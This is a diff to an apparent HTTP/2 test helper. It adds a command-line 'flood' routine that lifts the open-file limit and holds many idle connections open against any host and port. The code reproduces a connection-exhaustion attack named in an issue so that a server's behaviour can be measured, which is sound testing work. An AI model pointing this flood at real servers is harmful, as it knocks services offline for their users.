@@ -180,3 +180,35 @@ def wait_closed(conns, timeout):
                 closed += 1
     sel.close()
     return closed
+
+
+def flood(host, port, n, seconds):
+    """Opens n connections that send the preface and an empty SETTINGS and
+    nothing more (the attack of issue 17 item 1), holds them `seconds`,
+    closes them; says what the server did."""
+    import resource
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    if soft < hard:
+        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    n = min(n, max(hard, soft) - 64)
+    conns, failed = [], 0
+    for _ in range(n):
+        try:
+            conns.append(Conn(port, host=host, timeout=5))
+        except OSError:
+            failed += 1
+    t0 = time.time()
+    refused = wait_closed(conns, seconds)
+    time.sleep(max(0.0, seconds - (time.time() - t0)))
+    for c in conns:
+        c.close()
+    print("%d connections (%d could not connect), %d closed by the server within %g s"
+          % (len(conns), failed, refused, seconds))
+
+
+if __name__ == "__main__":
+    import sys
+    if len(sys.argv) == 6 and sys.argv[1] == "flood":
+        flood(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5]))
+    else:
+        sys.exit("usage: h2raw.py flood HOST PORT CONNECTIONS SECONDS")
